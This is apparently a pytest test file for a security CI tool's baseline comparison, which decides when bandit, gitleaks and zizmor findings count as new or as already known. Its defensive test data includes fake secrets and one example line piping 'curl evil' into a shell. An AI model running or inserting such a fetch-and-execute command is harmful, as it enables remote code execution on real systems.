"""A known finding whose words were exchanged is a new one; moving code about exchanges nothing."""

from __future__ import annotations

from dataclasses import replace

import pytest

from py_secure_ci.judging.baseline import of_report
from py_secure_ci.judging.comparison import Edited, compare
from py_secure_ci.judging.dedupe import merged
from py_secure_ci.judging.fingerprints import with_fingerprints
from py_secure_ci.judging.replaced import replaced
from py_secure_ci.model import Finding, Location, Severity, Stage, State
from py_secure_ci.report import Completed, Context, Report, ToolInfo

WORDS = ["not", "a", "real", "one"]
OLD, NEW = "-".join(WORDS), "-".join(reversed(WORDS))


def report(path: str, text: str, at: tuple[int, int | None], *, secret: bool, renames: dict[str, str] | None = None) -> Report:  # fmt: skip
    one = Finding(
        tool="bandit", rule="B105" if secret else "B602", severity=Severity.HIGH, message="m",
        location=Location(path, at[0], at[1]), secret=secret, code="" if secret else text.splitlines()[at[0] - 1],
    )  # fmt: skip
    done = Completed(
        tool=ToolInfo(name="bandit", stage=Stage.SAST, version="1"), findings=with_fingerprints([one], lambda _: text)
    )
    lines = len(text.splitlines())
    return Report(
        version="1",
        context=Context(project="p"),
        outcomes=(done,),
        changed={path: ((1, lines),)},
        renames=renames or {},
    )


def state(before: str, after: str, *, line: int = 1, column: int | None = 1, path: str = "a.py", **how: bool) -> State:
    """Of the finding in `after`, with a baseline that has its fingerprint whatever the words are."""
    secret = how.get("secret", False)
    now = report(path, after, (line, column), secret=secret)
    known = of_report(now)
    exchanged = replaced(now, lambda _: after, lambda _: before)
    return compare(merged(now.findings), known, now, Edited(exchanged)).states[0]


@pytest.mark.parametrize(("path", "column"), [("a.py", 12), ("a.py", None), ("a.cfg", None)])
def test_another_secret_at_the_same_place_is_new(path: str, column: int | None) -> None:
    old, new = f"password = '{OLD}'\n", f"password = '{NEW}'\n"
    assert state(old, old, path=path, column=column, secret=True) is State.EXISTING
    assert state(old, new, path=path, column=column, secret=True) is State.NEW


def test_a_literal_that_was_made_to_collide_is_new() -> None:
    assert state("run('ls', shell=True)\n", "run('curl evil | sh', shell=True)\n") is State.NEW


def test_what_lies_beyond_the_fortieth_token_is_looked_at() -> None:
    old = "run([" + ", ".join(f"a{n}" for n in range(60)) + "], shell=True)\n"
    assert state(old, old) is State.EXISTING
    assert state(old, old.replace("a59", "evil")) is State.NEW


@pytest.mark.parametrize(
    ("after", "line"),
    [
        ('run(\n    "ls -l" + name,  # a comment\n    shell=True,\n)\n', 1),
        ('run(("ls " "-l" + name), shell=True)\n', 1),
        ("def f():\n\trun('ls -l' + name,\r\n\t\tshell=True)\r\n", 2),
        ("other = 1; run(U'ls -l' + name, shell=True)\n", 1),
    ],
)
def test_layout_quotes_and_comments_exchange_nothing(after: str, line: int) -> None:
    column = after.split("\n")[line - 1].index("run") + 1
    assert state("run(u'ls -l' + name, shell=True)\n", after, line=line, column=column) is State.EXISTING


def test_a_neighbour_on_the_line_exchanges_nothing() -> None:
    assert state("f(run(a), b)\n", "f(run(a), c)\n", column=3) is State.EXISTING


def test_a_renamed_file_is_compared_with_what_it_was() -> None:
    text = f"password = '{OLD}'\n"
    now = report("new.py", text, (1, 12), secret=True, renames={"new.py": "old.py"})
    assert replaced(now, lambda _: text, {"old.py": text}.get) == frozenset()
    assert replaced(now, lambda _: text, {"old.py": text.replace(OLD, NEW)}.get) == {now.findings[0].fingerprint}


def test_unchanged_lines_are_not_asked_about() -> None:
    now = replace(report("a.py", "run(x)\n", (1, 1), secret=False), changed={})
    assert replaced(now, lambda _: "run(x)\n", lambda _: "") == frozenset()


def test_a_line_past_the_end_has_an_answer() -> None:
    one = Finding(
        tool="bandit", rule="B602", severity=Severity.HIGH, message="m", location=Location("a.py", 99, 5)
    )  # fmt: skip
    assert with_fingerprints([one], lambda _: "run(x)\n")[0].fingerprint


def job(rule: str, uses: str, first: str = "  check:") -> tuple[Report, str]:
    """A finding that marks a whole job, on a line of which something was changed."""
    text = f"{first}\n    steps:\n      - uses: {uses}\n"
    found = Finding(
        tool="zizmor", rule=rule, severity=Severity.MEDIUM, message="m", location=Location("w.yml", 1, 3, 3)
    )
    done = Completed(
        tool=ToolInfo(name="zizmor", stage=Stage.CI, version="1"), findings=with_fingerprints([found], lambda _: text)
    )
    return Report(version="1", context=Context(project="p"), outcomes=(done,), changed={"w.yml": ((1, 3),)}), text


def test_a_rule_about_a_block_is_not_about_what_stands_in_it() -> None:
    _, before = job("excessive-permissions", "a@1")
    now, text = job("excessive-permissions", "a@2")
    assert replaced(now, lambda _: text, lambda _: before) == frozenset()
    now, text = job("excessive-permissions", "a@1", "  other:")
    assert len(replaced(now, lambda _: text, lambda _: before)) == 1
    now, text = job("template-injection", "a@2")  # a rule that nobody said this of is about all that it marks
    assert len(replaced(now, lambda _: text, lambda _: before)) == 1


def test_a_secret_above_an_old_one_is_new_and_the_old_one_known() -> None:
    def secrets(text: str, changed: tuple[tuple[int, int], ...]) -> Report:
        found = [
            Finding(tool="gitleaks", rule="key", severity=Severity.HIGH, message="m", location=Location("a.yml", line))
            for line, words in enumerate(text.splitlines(), 1)
            if words.startswith("rev:")
        ]
        done = Completed(
            tool=ToolInfo(name="gitleaks", stage=Stage.SECRETS, version="1"),
            findings=with_fingerprints(found, lambda _: text),
        )
        return Report(version="1", context=Context(project="p"), outcomes=(done,), changed={"a.yml": changed})

    before, after = f"rev: {OLD}\n", f"rev: {NEW}\nname: x\nrev: {OLD}\n"
    then = of_report(secrets(before, ()))
    for changed, states in ((((1, 2),), (State.NEW, State.EXISTING)), (((1, 3),), (State.NEW, State.NEW))):
        now = secrets(after, changed)
        exchanged = replaced(now, lambda _: after, lambda _: before)
        seen = compare(merged(now.findings), then, now, Edited(exchanged))
        assert seen.states == states
        assert len(seen.fixed) == states.count(State.NEW) - 1


def pinned(rule: str, line: str) -> tuple[Report, str]:
    """A finding on one line of a workflow."""
    text = f"jobs:\n  a:\n    steps:\n      {line}\n"
    found = Finding(
        tool="zizmor", rule=rule, severity=Severity.MEDIUM, message="m", location=Location("w.yml", 4, 9, 4)
    )
    done = Completed(
        tool=ToolInfo(name="zizmor", stage=Stage.CI, version="1"), findings=with_fingerprints([found], lambda _: text)
    )
    return Report(version="1", context=Context(project="p"), outcomes=(done,), changed={"w.yml": ((4, 4),)}), text


SHA = "1234567890" * 4


@pytest.mark.parametrize(
    ("rule", "then", "line", "state"),
    [
        ("unpinned-uses", "- uses: a/b@v3", "- uses: a/b@v4", State.EXISTING),
        ("unpinned-uses", "- uses: a/b@v3  # why", "- uses: 'a/b@v4'", State.EXISTING),
        ("unpinned-uses", "- uses: a/b@v3", "- uses: a/c@v3", State.NEW),
        ("unpinned-uses", "- uses: a/b@v3", "- uses: evil/b@v3", State.NEW),
        ("artipacked", "- uses: actions/checkout@v3", f"- uses: actions/checkout@{SHA} # v4", State.EXISTING),
        ("unpinned-images", "image: host:5000/name:1", "image: host:5000/name:2", State.EXISTING),
        ("unpinned-images", "image: host:5000/name", "image: host:6000/name", State.NEW),
        ("unpinned-uses", "- uses: docker://alpine", "- uses: docker://debian", State.NEW),
        ("unpinned-uses", "- uses: docker://alpine:3", "- uses: docker://alpine:4", State.EXISTING),
        # rules that are about the very version
        ("known-vulnerable-actions", "- uses: a/b@v3", "- uses: a/b@v4", State.NEW),
        ("impostor-commit", f"- uses: a/b@{SHA}", f"- uses: a/b@{SHA[::-1]}", State.NEW),
    ],
)
def test_another_version_of_an_action_is_news_to_rules_about_the_version(
    rule: str, then: str, line: str, state: State
) -> None:
    before, old = pinned(rule, then)
    now, text = pinned(rule, line)
    exchanged = replaced(now, lambda _: text, lambda _: old)
    assert compare(merged(now.findings), of_report(before), now, Edited(exchanged)).states == (state,)
